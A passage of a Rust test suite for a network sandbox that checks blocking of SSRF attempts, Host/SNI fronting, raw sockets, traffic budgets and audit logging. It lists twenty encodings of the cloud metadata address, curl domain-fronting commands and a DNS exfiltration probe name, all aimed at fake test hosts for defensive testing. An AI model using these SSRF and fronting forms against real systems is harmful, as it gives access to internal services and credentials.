    assert_eq!(b[0]["verdict"], "block");
    assert_eq!(b[0]["port"], 80);
    assert_eq!(b[0]["detail"]["via"], "proxy");
    let events = net.audit_events(&r.session());
    assert_attributed(&events, &r);
    let blocked = records(&events, "blocked", Some("other.fake.test"));
    let vias: BTreeSet<&str> = blocked
        .iter()
        .map(|e| e["detail"]["via"].as_str().unwrap())
        .collect();
    assert_eq!(vias, BTreeSet::from(["connect", "proxy"]), "{events:#?}");
    let dns: Vec<&Value> = records(&events, "dns_query", None)
        .into_iter()
        .filter(|e| e["verdict"] == "block")
        .collect();
    let names: BTreeSet<&str> = dns.iter().filter_map(|e| e["host"].as_str()).collect();
    assert!(
        names.contains("other.fake.test") && names.contains("c2vjcmv0lwrhdge.exfil.fake.test"),
        "DNS refusals missing from the audit: {names:?}"
    );
    let direct = records(&events, "blocked", None)
        .into_iter()
        .find(|e| e["ip"] == API_IP && e["port"] == 80)
        .unwrap_or_else(|| panic!("the direct connect is not in the audit: {events:#?}"));
    assert_eq!(direct["rule"], "default-deny");
    assert_eq!(direct["detail"]["via"], "transparent");
    assert_eq!(r.network()["allowed"], 0, "{}", r.result);
}

/// The SSRF forms of issue 3: literals in every encoding and IPv6 embedding, names that
/// resolve to blocked ranges, rebinding.
const SSRF_FORMS: [&str; 20] = [
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "0xA9.0xFE.0xA9.0xFE",
    "169.254.43518",
    "[::ffff:a9fe:a9fe]",
    "[64:ff9b::a9fe:a9fe]",
    "[2002:a9fe:a9fe::]",
    "[2001:0:4136:e378:8000:63bf:5601:5601]",
    "0",
    "127.1",
    "10.0.0.5",
    "[::1]",
    "[fe80::1]",
    "[fd00:ec2::254]",
    "private.fake.test",
    "rebind.fake.test",
    "meta.fake.test",
    "100.64.0.1",
];

#[test]
fn every_ssrf_form_is_blocked_inside_the_sandbox_and_no_trap_sees_a_connection() {
    let Some(net) =
        enter("every_ssrf_form_is_blocked_inside_the_sandbox_and_no_trap_sees_a_connection")
    else {
        return;
    };
    // Everything allowed, so only the anti-SSRF check can refuse.
    let allow = [
        "0.0.0.0/0:*",
        "[::/0]:*",
        "api.fake.test:80",
        "private.fake.test:80",
        "rebind.fake.test:80",
        "mixed.fake.test:80",
        "meta.fake.test:80",
    ];

    // Controls: without cordon, each trap answers, and the names resolve to the traps.
    for url in [
        "http://169.254.169.254/",
        "http://2852039166/",
        "http://10.0.0.5/",
        "http://127.1/",
        "http://0/",
    ] {
        let f = net.bare(&["curl", "-sS", "--max-time", "5", url]);
        assert_eq!(f.stdout, "trap", "control {url}: {}", f.stderr);
    }
    let dns = net.bare_probes(&[
        &["dns", "private.fake.test", DNS_IP],
        &["dns", "rebind.fake.test", DNS_IP],
        &["dns", "meta.fake.test", DNS_IP],
        &["dns", "mixed.fake.test", DNS_IP],
    ]);
    let answers: Vec<&Value> = dns.iter().map(|v| &v["answers"]).collect();
    assert_eq!(
        answers,
        [
            &serde_json::json!([PRIVATE_IP]),
            &serde_json::json!(["127.0.0.1"]),
            &serde_json::json!([METADATA_IP]),
            &serde_json::json!([PRIVATE_IP, API_IP]),
        ]
    );

    let mark = net.mark();
    let mut steps: Vec<Vec<String>> = Vec::new();
    for form in SSRF_FORMS {
        let url = format!("http://{form}/");
        steps.push(vec!["http".into(), "urllib".into(), url.clone()]);
        steps.push(vec!["http".into(), "urllib".into(), url, "noproxy".into()]);
        let tcp = if form.starts_with('[') { "tcp6" } else { "tcp" };
        steps.push(vec![tcp.into(), form.into(), "80".into()]);
    }
    // A redirect from an allowed host to the metadata service: each hop is decided afresh.
    let redirect = format!("http://api.fake.test/redirect?to=http://{METADATA_IP}/latest/");
    steps.push(vec!["http".into(), "urllib".into(), redirect.clone()]);
    steps.push(vec![
        "http".into(),
        "urllib".into(),
        redirect.clone(),
        "noproxy".into(),
    ]);
    steps.push(vec![
        "http".into(),
        "urllib".into(),
        "http://mixed.fake.test/m1".into(),
    ]);
    steps.push(vec![
        "http".into(),
        "urllib".into(),
        "http://mixed.fake.test/m2".into(),
        "noproxy".into(),
    ]);
    let step_refs: Vec<Vec<&str>> = steps
        .iter()
        .map(|s| s.iter().map(String::as_str).collect())
        .collect();
    let slices: Vec<&[&str]> = step_refs.iter().map(Vec::as_slice).collect();
    let r = net
        .cordon()
        .policy(NEVER_TERMINATE)
        .allow(&allow)
        .run(&probe(&slices))
        .ok();

    for form in SSRF_FORMS {
        // Through the proxy: 403, and the reason names a blocked range.
        let v = r.probe(&["http", "urllib", &format!("http://{form}/")]);
        assert_eq!(v["status"], 403, "http://{form}/ through the proxy: {v}");
        assert!(
            v["reason"].as_str().unwrap().contains("private"),
            "http://{form}/: {v}"
        );
        // Ignoring the proxy, and a bare socket: never an answer from anywhere but cordon.
        let v = r.probe(&["http", "urllib", &format!("http://{form}/"), "noproxy"]);
        assert!(
            v["status"].is_null() || v["status"] == 403,
            "http://{form}/ without the proxy: {v}"
        );
        let tcp = if form.starts_with('[') { "tcp6" } else { "tcp" };
        let v = r.probe(&[tcp, form, "80"]);
        let got = v["received"].as_str().unwrap();
        assert!(
            got.is_empty() || got.starts_with("HTTP/1.1 403"),
            "{tcp} {form}:80: {v}"
        );
    }
    let v = r.probe(&["http", "urllib", &redirect]);
    assert_eq!(v["status"], 403, "redirect to the metadata service: {v}");
    let v = r.probe(&["http", "urllib", &redirect, "noproxy"]);
    assert!(
        v["error"].is_string(),
        "redirect to the metadata service, no proxy: {v}"
    );
    // Mixed answers: only the public address is used.
    for step in [
        &["http", "urllib", "http://mixed.fake.test/m1"][..],
        &["http", "urllib", "http://mixed.fake.test/m2", "noproxy"][..],
    ] {
        let v = r.probe(step);
        assert_eq!(v["status"], 200, "{v}");
        assert!(
            v["body"]
                .as_str()
                .unwrap()
                .ends_with(&format!("local={API_IP}:80")),
            "{v}"
        );
    }

    let traps = net.seen_since(mark, "trap");
    assert!(traps.is_empty(), "a trap saw a connection: {traps:?}");

    let events = net.audit_events(&r.session());
    assert_attributed(&events, &r);
    let ssrf: Vec<&Value> = events
        .iter()
        .filter(|e| e["rule"].as_str().is_some_and(|r| r.starts_with("ssrf:")))
        .collect();
    assert!(ssrf.iter().all(|e| e["verdict"] == "block"), "{ssrf:#?}");
    // A literal refused before any connect is recorded with the address as its host.
    for ip in [
        METADATA_IP,
        PRIVATE_IP,
        "127.0.0.1",
        "0.0.0.0",
        "::1",
        "fd00:ec2::254",
        "::ffff:169.254.169.254",
        "64:ff9b::a9fe:a9fe",
        "fe80::1",
        "100.64.0.1",
    ] {
        assert!(
            ssrf.iter().any(|e| e["ip"] == ip || e["host"] == ip),
            "no ssrf record for {ip}: {events:#?}"
        );
    }
    for host in ["private.fake.test", "rebind.fake.test", "meta.fake.test"] {
        assert!(
            ssrf.iter().any(|e| e["host"] == host),
            "no ssrf record for {host}: {events:#?}"
        );
    }
    assert!(
        records(&events, "http_request", Some("mixed.fake.test"))
            .iter()
            .all(|e| e["ip"] == API_IP && e["verdict"] == "allow"),
        "{events:#?}"
    );
}

#[test]
fn host_sni_and_connect_mismatches_and_disallowed_ports_are_blocked() {
    let Some(net) = enter("host_sni_and_connect_mismatches_and_disallowed_ports_are_blocked")
    else {
        return;
    };
    let allow = ["api.fake.test", "api.fake.test:80"];
    let front = "other.fake.test:443:api.fake.test:443";

    // Controls: without cordon, the fronted host and the other port answer.
    let bare = net.bare(&[
        "curl",
        "-sS",
        "--max-time",
        "5",
        "--cacert",
        "ca.pem",
        "--connect-to",
        &format!("other.fake.test:443:{API_IP}:443"),
        "https://other.fake.test/bare",
    ]);
    assert!(
        bare.stdout.starts_with("origin ok host=other.fake.test"),
        "{}",
        bare.stderr
    );
    let bare = net.bare(&[
        "curl",
        "-sS",
        "--max-time",
        "5",
        &format!("http://{API_IP}:8080/"),
    ]);
    assert!(bare.stdout.starts_with("origin ok"), "{}", bare.stderr);
    // And inside cordon, the honest request works.
    let r = net
        .cordon()
        .allow(&allow)
        .run(&curl(&["http://api.fake.test/honest"]))
        .ok();
    assert_eq!(r.curl_code().0, 200);

    let mark = net.mark();
    let cases: [(&str, Vec<&str>); 9] = [
        (
            "absolute-form URI vs Host header",
            vec!["http://api.fake.test/h1", "-H", "Host: other.fake.test"],
        ),
        (
            "captured HTTP: destination vs Host header",
            vec![
                "--noproxy",
                "*",
                "http://api.fake.test/h2",
                "-H",
                "Host: other.fake.test",
            ],
        ),
        (
            "CONNECT api.fake.test:443 with SNI other.fake.test",
            vec![
                "--cacert",
                "/workspace/ca.pem",
                "--connect-to",
                front,
                "https://other.fake.test/h3",
            ],
        ),
        (
            "captured TLS: destination api.fake.test with SNI other.fake.test",
            vec![
                "--noproxy",
                "*",
                "--cacert",
                "/workspace/ca.pem",
                "--connect-to",
                front,
                "https://other.fake.test/h4",
            ],
        ),
        (
            "CONNECT other.fake.test:443 with SNI api.fake.test",
            vec![
                "--cacert",
                "/workspace/ca.pem",
                "--connect-to",
                "api.fake.test:443:other.fake.test:443",
                "https://api.fake.test/h5",
            ],
        ),
        (
            "disallowed port through the proxy",
            vec!["http://api.fake.test:8080/p1"],
        ),
        (
            "disallowed port through CONNECT",
            vec!["-p", "http://api.fake.test:8080/p2"],
        ),
        (
            "disallowed port, captured",
            vec!["--noproxy", "*", "http://api.fake.test:8080/p3"],
        ),
        (
            "disallowed port, captured TLS",
            vec!["--noproxy", "*", "-k", "https://api.fake.test:8080/p4"],
        ),
    ];
    for (what, args) in &cases {
        let r = net.cordon().allow(&allow).run(&curl(args));
        let (code, reason) = r.curl_code();
        assert_ne!(code, 200, "{what}: allowed\n{}", r.stdout);
        if code == 403 {
            assert!(!reason.is_empty(), "{what}: 403 without X-Cordon-Reason");
        }
        if what.starts_with("disallowed port through the proxy") {
            assert_eq!(
                (code, reason.as_str()),
                (403, "port 8080 is not allowed for api.fake.test")
            );
        }
        if what.starts_with("absolute-form") || what.starts_with("captured HTTP") {
            assert_eq!(code, 403, "{what}");
            assert!(reason.contains("does not match"), "{what}: {reason}");
        }
        let events = net.audit_events(&r.session());
        assert_attributed(&events, &r);
        assert!(
            events
                .iter()
                .any(|e| e["verdict"] == "block" && e["kind"] != "dns_query"),
            "{what}: no refusal in the audit: {events:#?}"
        );
    }
    let seen = net.seen_since(mark, "http");
    assert!(seen.is_empty(), "the origin was reached: {seen:#?}");
}

/// Inside a CONNECT tunnel, plain HTTP is served request by request and each `Host` must name
/// the tunnel's host: `curl -p` (CONNECT api.fake.test:80, then `Host: other.fake.test`) must
/// not reach the other virtual host on the allowed address (the absolute-form proxy and
/// transparent capture answer 403 to the same request; the ways around the first-bytes check
/// are in cordon-gateway's `tests/first_bytes.rs`).
#[test]
fn a_plain_http_request_in_a_connect_tunnel_must_name_the_tunnel_host() {
    let Some(net) = enter("a_plain_http_request_in_a_connect_tunnel_must_name_the_tunnel_host")
    else {
        return;
    };
    let allow = ["api.fake.test:80"];
    // Control: the honest tunnelled request works.
    let r = net
        .cordon()
        .allow(&allow)
        .run(&curl(&["-p", "http://api.fake.test/tunnel-ok"]))
        .ok();
    assert_eq!(r.curl_code().0, 200, "{}", r.stderr);
    let mark = net.mark();
    let r = net.cordon().allow(&allow).run(&curl(&[
        "-p",
        "http://api.fake.test/fronted",
        "-H",
        "Host: other.fake.test",
    ]));
    let fronted: Vec<Value> = net
        .seen_since(mark, "http")
        .into_iter()
        .filter(|e| e["host"] == "other.fake.test")
        .collect();
    assert!(
        fronted.is_empty(),
        "Host other.fake.test reached the origin through CONNECT api.fake.test:80 \
         (curl: {:?}): {fronted:?}",
        r.curl_code()
    );
}

#[test]
fn direct_connects_udp_icmp_and_raw_sockets_are_refused_dropped_and_counted() {
    let Some(net) =
        enter("direct_connects_udp_icmp_and_raw_sockets_are_refused_dropped_and_counted")
    else {
        return;
    };
    // Controls: without cordon, a direct connect gets the origin and UDP reaches the sink.
    let bare = net.bare_probes(&[&["tcp", API_IP, "80"], &["udp", API_IP, "9999", "2"]]);
    assert!(
        bare[0]["received"].as_str().unwrap().contains("origin ok"),
        "{bare:?}"
    );
    let mark = net.mark();
    assert!(
        net.seen_since(0, "udp").len() >= 2,
        "the UDP sink saw nothing bare"
    );

    let steps: [&[&str]; 9] = [
        &["tcp", API_IP, "80"],
        &["tcp", GIT_IP, "443"],
        &["udp", API_IP, "9999", "3"],
        &["udp", DNS_IP, "5353", "2"],
        &["icmp", API_IP],
        &["raw"],
        &["packet"],
        &["tcp6", "2001:db8::1", "80"],
        // And as an agent would write it.
        &["tcp", "93.184.216.34", "443"],
    ];
    let r = net
        .cordon()
        .policy(NEVER_TERMINATE)
        .allow(&["api.fake.test:80"])
        .run(&probe(&steps))
        .ok();
    for step in [steps[0], steps[1], steps[8]] {
        let v = r.probe(step);
        assert_eq!(v["received"], "", "{step:?} got an answer: {v}");
        assert!(
            [104, 111].contains(&v["errno"].as_i64().unwrap_or(0)),
            "{step:?}: neither reset nor refused: {v}"
        );
    }
    let udp_sent =
        |v: &Value| v["sent"].as_u64().unwrap() + v["errors"].as_array().unwrap().len() as u64;
    let tried = udp_sent(&r.probe(steps[2])) + udp_sent(&r.probe(steps[3]));
    assert_eq!(tried, 5);
    let v = r.probe(steps[4]);
    let dropped = &r.network()["dropped"];
    if v["sent"] == true {
        assert!(
            dropped["icmp"].as_u64().unwrap() >= 1,
            "ICMP sent and not counted: {}",
            r.result
        );
    } else {
        assert!([1, 13].contains(&v["errno"].as_i64().unwrap()), "icmp: {v}");
    }
    for step in [steps[5], steps[6]] {
        let v = r.probe(step);
        assert_eq!(v["opened"], false, "{step:?}: {v}");
        assert_eq!(v["errno"], 1, "{step:?} not refused with EPERM: {v}");
    }
    let v = r.probe(steps[7]);
    assert_eq!(v["errno"], 101, "IPv6 elsewhere must be unreachable: {v}");

    // Dropped and counted, never delivered.
    assert!(
        dropped["udp"].as_u64().unwrap() >= 5,
        "UDP datagrams not counted: {}",
        r.result
    );
    assert_eq!(net.seen_since(mark, "udp"), Vec::<Value>::new());
    assert_eq!(net.seen_since(mark, "http"), Vec::<Value>::new());

    let events = net.audit_events(&r.session());
    assert_attributed(&events, &r);
    for (ip, port) in [(API_IP, 80), (GIT_IP, 443), (API_IP, 443)] {
        let b = records(&events, "blocked", None)
            .into_iter()
            .find(|e| e["ip"] == ip && e["port"] == port)
            .unwrap_or_else(|| panic!("connect to {ip}:{port} not audited: {events:#?}"));
        assert_eq!(b["rule"], "default-deny");
        assert_eq!(b["verdict"], "block");
        assert_eq!(b["detail"]["via"], "transparent");
        assert_eq!(b["reason"], format!("address {ip} is not in the allowlist"));
    }
    let end = records(&events, "session_end", None);
    assert_eq!(end.len(), 1);
    assert_eq!(
        end[0]["detail"]["network"]["dropped"], *dropped,
        "{:#?}",
        end[0]
    );
}

// ------------------------------------------------------------------------------------------
// Budgets and termination.

/// `curl` N times in one sandbox; one `CODE SIZE REASON` line each. With `linger`, the script
/// then sleeps 3 s and prints `survived`, so a test can tell whether the session was cut short.
fn curl_loop(n: usize, url: &str, extra: &str, linger: bool) -> Vec<String> {
    let tail = if linger {
        "sleep 3; echo survived"
    } else {
        "true"
    };
    let script = format!(
        "for i in $(seq {n}); do curl -s --max-time 10 {extra} -o /dev/null \
         -w '%{{http_code}} %{{size_download}} %header{{x-cordon-reason}}\\n' '{url}'; done; {tail}"
    );
    vec!["sh".into(), "-c".into(), script]
}

fn codes(out: &str) -> Vec<String> {
    out.lines()
        .filter(|l| l.chars().next().is_some_and(|c| c.is_ascii_digit()))
        .map(|l| l.trim().to_string())
        .collect()
}

#[test]
fn request_and_byte_budgets_block_with_a_reason_once_exhausted() {
    let Some(net) = enter("request_and_byte_budgets_block_with_a_reason_once_exhausted") else {
        return;
    };
    let allow = ["api.fake.test:80"];
    let rate = "request rate limit exceeded (5 per minute)";
    // Control: without a budget, seven requests all succeed.
    let r = net
        .cordon()
        .allow(&allow)
        .run(&curl_loop(7, "http://api.fake.test/free", "", false))
        .ok();
    assert_eq!(codes(&r.stdout).len(), 7, "{}", r.stdout);
    assert!(
        codes(&r.stdout).iter().all(|l| l.starts_with("200 ")),
        "{}",
        r.stdout
    );

    for extra in ["", "--noproxy '*'"] {
        let r = net
            .cordon()
            .policy("[network.rate]\nrequests_per_minute = 5\n")
            .allow(&allow)
            .run(&curl_loop(7, "http://api.fake.test/rate", extra, false))
            .ok();
        // "CODE REASON", without the size.
        let got: Vec<String> = codes(&r.stdout)
            .iter()
            .map(|l| {
                let mut w = l.splitn(3, ' ');
                let code = w.next().unwrap_or("");
                let _size = w.next();
                format!("{code} {}", w.next().unwrap_or(""))
                    .trim()
                    .to_string()
            })
            .collect();
        let limited = format!("403 {rate}");
        assert_eq!(
            got,
            [vec!["200".to_string(); 5], vec![limited; 2]].concat(),
            "curl {extra}: {}",
            r.stdout
        );
        let events = net.audit_events(&r.session());
        assert_attributed(&events, &r);
        let b = records(&events, "budget_exhausted", None);
        assert_eq!(b.len(), 2, "{events:#?}");
        for e in b {
            assert_eq!(e["rule"], "network.rate.requests_per_minute");
            assert_eq!(e["reason"], rate);
            assert_eq!(e["verdict"], "block");
            assert_eq!(e["host"], "api.fake.test");
        }
    }

    // Bytes in: 8 KiB in total, whatever the number of requests.
    let big = "http://api.fake.test/big?bytes=3000";
    let r = net
        .cordon()
        .allow(&allow)
        .run(&curl_loop(4, big, "", false))
        .ok();
    assert_eq!(
        codes(&r.stdout),
        vec!["200 3000"; 4],
        "control: {}",
        r.stdout
    );
    let r = net
        .cordon()
        .policy("[network.rate]\nmax_bytes_in = \"8K\"\n")
        .allow(&allow)
        .run(&curl_loop(4, big, "", false))
        .ok();
    let got = codes(&r.stdout);
    let total: u64 = got
        .iter()
        .filter(|l| l.starts_with("200"))
        .map(|l| l.split(' ').nth(1).unwrap().parse::<u64>().unwrap())
        .sum();
    assert!(
        total < 8192,
        "{total} bytes came in past an 8K budget: {got:?}"
    );
    assert!(
        got.last().unwrap().ends_with("byte budget exhausted") && got[0] == "200 3000",
        "{got:?}"
    );
    assert!(
        r.network()["bytes_down"].as_u64().unwrap() <= 8192,
        "{}",
        r.result
    );
    let events = net.audit_events(&r.session());
    assert!(
        records(&events, "budget_exhausted", None)
            .iter()
            .any(|e| e["rule"] == "network.rate.max_bytes_in" && e["verdict"] == "block"),
        "{events:#?}"
    );

    // Bytes out: a 10 000-byte upload against a 4K budget never reaches the origin whole.
    let upload = "head -c 10000 /dev/zero > /tmp/up && curl -s --max-time 10 -o /dev/null \
                  -w '%{http_code}\\n' --data-binary @/tmp/up http://api.fake.test/upload";
    let mark = net.mark();
    let r = net.cordon().allow(&allow).run(&["sh", "-c", upload]).ok();
    assert_eq!(r.stdout.trim(), "200", "control upload: {}", r.stderr);
    assert_eq!(net.seen_since(mark, "http")[0]["bytes"], 10000);
    let mark = net.mark();
    let r = net
        .cordon()
        .policy("[network.rate]\nmax_bytes_out = \"4K\"\n")
        .allow(&allow)
        .run(&["sh", "-c", upload]);
    assert_ne!(
        r.stdout.trim(),
        "200",
        "an upload past max_bytes_out succeeded"
    );
    let posted = net.seen_since(mark, "http");
    assert!(
        posted
            .iter()
            .all(|e| e["bytes"].as_u64().unwrap_or(0) < 4096),
        "the origin received more than the budget: {posted:?}"
    );
}

#[test]
fn exceeding_a_budget_or_the_blocked_threshold_terminates_the_session_when_the_policy_says_so() {
    let Some(net) = enter(
        "exceeding_a_budget_or_the_blocked_threshold_terminates_the_session_when_the_policy_says_so",
    ) else {
        return;
    };
    let allow = ["api.fake.test:80"];
    // Control: the same scripts run to the end without the terminating policy.
    let r = net
        .cordon()
        .policy("[network.rate]\nrequests_per_minute = 2\n")
        .allow(&allow)
        .run(&curl_loop(4, "http://api.fake.test/t", "", true))
        .ok();
    assert!(r.stdout.contains("survived"), "{}", r.stdout);
    let r = net
        .cordon()
        .policy(NEVER_TERMINATE)
        .allow(&allow)
        .run(&curl_loop(4, "http://other.fake.test/t", "", true))
        .ok();
    assert!(r.stdout.contains("survived"), "{}", r.stdout);

    for (policy, url, reason) in [
        (
            "[network.rate]\nrequests_per_minute = 2\non_exceed = \"terminate\"\n",
            "http://api.fake.test/t",
            "budget exceeded: network.rate.requests_per_minute",
        ),
        (
            "[response]\nterminate_after_blocked = 3\n",
            "http://other.fake.test/t",
            "3 blocked network attempts in 24h (detect.blocked.threshold = 3)",
        ),
    ] {
        let r = net
            .cordon()
            .policy(policy)
            .allow(&allow)
            .run(&curl_loop(6, url, "", true));
        let session = r.session();
        assert_eq!(r.status, 137, "{policy}: {}\n{}", r.stdout, r.stderr);
        assert!(
            !r.stdout.contains("survived"),
            "{policy}: the session went on"
        );
        assert_eq!(r.result["terminated"], reason, "{}", r.result);
        assert_eq!(r.result["exit_status"], 137);
        assert!(
            r.result["wall_ms"].as_u64().unwrap() < 3000,
            "{policy}: not ended at once: {}",
            r.result
        );
        let line = format!("cordon: session {session} terminated: {reason}");
        assert!(
            r.stderr.lines().any(|l| l == line),
            "{policy}: no {line:?} in\n{}",
            r.stderr
        );
        let events = net.audit_events(&session);
        assert_attributed(&events, &r);
        let end = records(&events, "session_end", None);
        assert_eq!(end.len(), 1, "{events:#?}");
        assert_eq!(end[0]["detail"]["terminated"], reason);
    }
}

/// KNOWN BUG (reported): a session the supervisor kills (terminate request, timeout) exits
/// 137 and says so in its result, but its `session_end` audit record has `exit_status: null`
/// (session.rs takes it from the init's `Exited` message, which a killed init never sends), so
/// `cordon audit sessions` shows no exit status for exactly the sessions that were stopped.
#[test]
fn the_audit_records_the_exit_status_of_a_terminated_session() {
    let Some(net) = enter("the_audit_records_the_exit_status_of_a_terminated_session") else {
        return;
    };
    let r = net
        .cordon()
        .policy("[response]\nterminate_after_blocked = 1\n")
        .allow(&["api.fake.test:80"])
        .run(&curl_loop(3, "http://other.fake.test/t", "", true));
    assert_eq!(r.status, 137, "{}", r.stderr);
    assert_eq!(r.result["exit_status"], 137);
    let events = net.audit_events(&r.session());
    let end = records(&events, "session_end", None);
    assert_eq!(end.len(), 1, "{events:#?}");
    assert_eq!(
        end[0]["detail"]["exit_status"], 137,
        "session_end disagrees with the result: {:#}",
        end[0]
    );
    let f = net.audit(&["sessions", "--json"]);
    let sessions = json_lines(&f.stdout);
    let s = sessions
        .iter()
        .find(|s| s["id"] == r.session().as_str())
        .unwrap_or_else(|| panic!("{sessions:?}"));
    assert_eq!(s["exit_status"], 137, "{s}");
}

// ------------------------------------------------------------------------------------------
// Report mode.

#[test]
fn report_mode_lets_an_unlisted_host_through_and_records_it_but_never_an_ssrf_target() {
    let Some(net) =
        enter("report_mode_lets_an_unlisted_host_through_and_records_it_but_never_an_ssrf_target")
    else {
        return;
    };
    let allow = ["api.fake.test:80"];
    // Control: enforced, the unlisted host is refused.
    let r = net
        .cordon()
        .allow(&allow)
        .run(&curl(&["http://other.fake.test/enforced"]))
        .ok();
    assert_eq!(r.curl_code().0, 403);

    let mark = net.mark();
    let steps: [&[&str]; 7] = [
        &["http", "urllib", "http://other.fake.test/rp1"],
        &["http", "urllib", "http://other.fake.test/rp2", "noproxy"],
        &["http", "urllib", "http://169.254.169.254/latest/meta-data/"],
        &["http", "urllib", "http://private.fake.test/"],
        &["http", "urllib", "http://meta.fake.test/", "noproxy"],
        &["tcp", METADATA_IP, "80"],
        &["http", "urllib", "http://2852039166/"],
    ];
    let r = net
        .cordon()
        .args(&["--mode", "report"])
        .policy(NEVER_TERMINATE)
        .allow(&allow)
        .run(&probe(&steps))
        .ok();
    for step in &steps[..2] {
        let v = r.probe(step);
        assert_eq!(v["status"], 200, "report mode refused {step:?}: {v}");
        assert!(
            v["body"]
                .as_str()
                .unwrap()
                .starts_with("origin ok host=other.fake.test"),
            "{v}"
        );
    }
    for step in [steps[2], steps[3], steps[6]] {
        let v = r.probe(step);
        assert_eq!(v["status"], 403, "{step:?}: {v}");
        assert!(v["reason"].as_str().unwrap().contains("private"), "{v}");
    }
    let v = r.probe(steps[4]);
    assert_ne!(v["status"], 200, "{v}");
    assert_eq!(r.probe(steps[5])["received"], "");
    assert_eq!(net.seen_since(mark, "trap"), Vec::<Value>::new());

    let events = net.audit_events(&r.session());
    assert_attributed(&events, &r);
    let would: Vec<&Value> = events
        .iter()
        .filter(|e| e["verdict"] == "report-would-block")
        .collect();
    assert!(
        would.iter().any(|e| e["host"] == "other.fake.test"
            && e["rule"] == "default-deny"
            && e["reason"] == "host other.fake.test is not in the allowlist"),
        "{events:#?}"
    );
    let ssrf: Vec<&Value> = events
        .iter()
        .filter(|e| e["rule"].as_str().is_some_and(|r| r.starts_with("ssrf:")))
        .collect();
    assert!(ssrf.len() >= 4, "{events:#?}");
    assert!(ssrf.iter().all(|e| e["verdict"] == "block"), "{ssrf:#?}");
    assert!(
        r.network()["report_would_block"].as_u64().unwrap() >= 2,
        "{}",
        r.result
    );
    let start = records(&events, "session_start", None);
    assert_eq!(start[0]["detail"]["mode"], "report");
}

// ------------------------------------------------------------------------------------------
// The audit store.

/// The agent of the audit test: one allowed request, one with a long path, one refused by the
/// proxy, one refused name, one direct connect, one UDP datagram.
const AGENT: &str = r#"
import json, socket, struct, urllib.request, urllib.error
def get(url):
    try:
        return urllib.request.urlopen(url, timeout=10).status
    except urllib.error.HTTPError as e:
        return e.code
print(get("http://api.fake.test/audit-allowed"))
print(get("http://api.fake.test/" + "p" * 300))
print(get("http://other.fake.test/audit-blocked"))
try:
    socket.getaddrinfo("nx-audit.fake.test", 80)
except socket.gaierror as e:
    print("nxdomain")
try:
    socket.create_connection(("93.184.216.34", 80), timeout=5).recv(1)
except OSError as e:
    print("direct", e.errno)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("93.184.216.34", 9999))
except OSError as e:
    print("udp", e.errno)
"#;

#[test]
fn every_event_is_in_the_audit_store_with_its_attribution() {
    let Some(net) = enter("every_event_is_in_the_audit_store_with_its_attribution") else {
        return;
    };
    let agent = net.dir.path().join("agent.py");
    std::fs::write(&agent, AGENT).unwrap();
    let sha = sha256_hex(AGENT.as_bytes());
    let agent = agent.display().to_string();
    let r = net
        .cordon()
        .policy(NEVER_TERMINATE)
        .allow(&["api.fake.test:80"])
        .args(&["--user", "alice", "--code", &agent, "--interpreter", PY])
        .run(&[] as &[&str])
        .ok();
    assert_eq!(
        r.stdout.lines().take(4).collect::<Vec<_>>(),
        ["200", "200", "403", "nxdomain"],
        "{}\n{}",
        r.stdout,
        r.stderr
    );
    assert_eq!(r.result["user"], "alice");
    assert_eq!(r.result["code_sha256"], sha.as_str());
    let session = r.session();

    let events = net.audit_events(&session);
    assert_attributed(&events, &r);
    assert!(events
        .iter()
        .all(|e| e["user_id"] == "alice" && e["code_sha256"] == sha.as_str()));
    // In order, numbered from 1, between the session's start and end.
    let seqs: Vec<u64> = events
        .iter()
        .map(|e| e["session_seq"].as_u64().unwrap())
        .collect();
    assert_eq!(seqs, (1..=events.len() as u64).collect::<Vec<_>>());
    assert_eq!(events[0]["kind"], "session_start");
    assert_eq!(events[events.len() - 1]["kind"], "session_end");

    let ok = records(&events, "http_request", Some("api.fake.test"));
    let allowed = ok
        .iter()
        .find(|e| e["path"] == "/audit-allowed")
        .unwrap_or_else(|| panic!("{events:#?}"));
    assert_eq!(allowed["verdict"], "allow");
    assert_eq!(allowed["rule"], "api.fake.test:80");
    assert_eq!(allowed["ip"], API_IP);
    assert_eq!(allowed["port"], 80);
    assert_eq!(allowed["method"], "GET");
    assert!(allowed["bytes_up"].as_u64().unwrap() > 0, "{allowed}");
    assert!(allowed["bytes_down"].as_u64().unwrap() > 0, "{allowed}");
    assert!(allowed["duration_ms"].is_u64(), "{allowed}");
    let long = ok
        .iter()
        .find(|e| e["path"].as_str().is_some_and(|p| p.starts_with("/ppp")))
        .unwrap_or_else(|| panic!("{events:#?}"));
    assert_eq!(
        long["path"].as_str().unwrap().chars().count(),
        100,
        "path not cut: {long}"
    );

    let blocked = records(&events, "blocked", Some("other.fake.test"));
    assert_eq!(blocked.len(), 1, "{events:#?}");
    assert_eq!(blocked[0]["verdict"], "block");
    assert_eq!(blocked[0]["rule"], "default-deny");
    assert_eq!(
        blocked[0]["reason"],
        "host other.fake.test is not in the allowlist"
    );
    assert_eq!(blocked[0]["port"], 80);
    assert_eq!(blocked[0]["path"], "/audit-blocked");

    let nx = records(&events, "dns_query", Some("nx-audit.fake.test"));
    assert!(!nx.is_empty(), "{events:#?}");
    assert!(
        nx.iter()
            .all(|e| e["verdict"] == "block" && e["rule"] == "default-deny"),
        "{nx:#?}"
    );

    let direct = records(&events, "blocked", None)
        .into_iter()
        .find(|e| e["ip"] == API_IP)
        .unwrap_or_else(|| panic!("{events:#?}"));
    assert_eq!(
        (direct["port"].as_u64(), direct["rule"].as_str()),
        (Some(80), Some("default-deny"))
    );

    let end = records(&events, "session_end", None)[0];
    assert_eq!(end["detail"]["exit_status"], 0);
    assert!(
        end["detail"]["network"]["dropped"]["udp"].as_u64().unwrap() >= 1,
        "{end}"
    );

    // The other views of the store agree.
    let f = net.audit(&["sessions", "--user", "alice", "--json"]);
    let sessions = json_lines(&f.stdout);
    assert_eq!(sessions.len(), 1, "{}", f.stdout);
    assert_eq!(sessions[0]["id"], session.as_str());
    assert_eq!(sessions[0]["code_sha256"], sha.as_str());
    assert!(
        sessions[0]["blocked"].as_u64().unwrap() >= 3,
        "{}",
        sessions[0]
    );
    let f = net.audit(&["export", "--session", &session]);
    assert_eq!(json_lines(&f.stdout).len(), events.len());
    let f = net.audit(&["events", &session, "--blocked", "--json"]);
    assert!(json_lines(&f.stdout)
        .iter()
        .all(|e| e["verdict"] == "block" || e["kind"] == "blocked"));
    let f = net.audit(&["verify"]);
    assert!(
        f.status.success(),
        "the hash chain does not verify: {}{}",
        f.stdout,
